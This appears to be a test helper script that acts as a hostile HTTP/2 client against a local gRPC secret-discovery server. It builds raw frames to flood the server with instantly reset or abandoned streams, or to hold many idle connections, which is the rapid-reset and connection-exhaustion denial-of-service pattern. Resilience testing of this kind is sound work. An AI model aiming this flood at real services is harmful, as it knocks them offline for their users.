"""A stand-in for a hostile peer in a process of its own: it makes calls without end, and resets them or leaves them, or
makes many connections and keeps them.

    python flood.py SOCKET reset|leave|connect

It says "flooding" once it has made more calls than a server fetches in a moment, and ends when the server hangs up, or
after a minute. It imports nothing of the project, so that it is there at once.
"""

import os
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets"
FIELDS = {b":method": b"POST", b":scheme": b"http", b":path": PATH, b":authority": b"x", b"te": b"trailers"} | {
    b"content-type": b"application/grpc"
}
HEADERS = b"".join(b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in FIELDS.items())
LONGEST = 60.0
ENOUGH = 1500
CONNECTIONS = 200


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def call(stream: int, *, reset: bool) -> bytes:
    """A call that is begun, and reset at once if it is to be."""
    return frame(1, 4, stream, HEADERS) + (frame(3, 0, stream, b"\x00\x00\x00\x08") if reset else b"")


def forget(connection: socket.socket) -> None:
    """Read what the server answers."""
    while connection.recv(1 << 16):
        pass


def connect(path: str) -> None:
    """Make connections, and leave them open."""
    connections = [socket.socket(socket.AF_UNIX) for _ in range(CONNECTIONS)]
    for each in connections:
        each.connect(path)
        each.sendall(PREFACE + frame(4, 0, 0, b""))
    os.write(1, b"flooding\n")
    time.sleep(LONGEST)


def call_without_end(path: str, *, reset: bool) -> None:
    """Make calls on one connection."""
    begin = time.monotonic()
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    connection.sendall(PREFACE + frame(4, 0, 0, b""))
    threading.Thread(target=forget, args=(connection,), daemon=True).start()
    stream = 1
    while time.monotonic() - begin < LONGEST:
        connection.sendall(b"".join(call(stream + 2 * number, reset=reset) for number in range(100)))
        stream += 200
        if stream == 2 * ENOUGH + 1:
            os.write(1, b"flooding\n")


if __name__ == "__main__":
    if sys.argv[2] == "connect":
        connect(sys.argv[1])
    else:
        call_without_end(sys.argv[1], reset=sys.argv[2] == "reset")
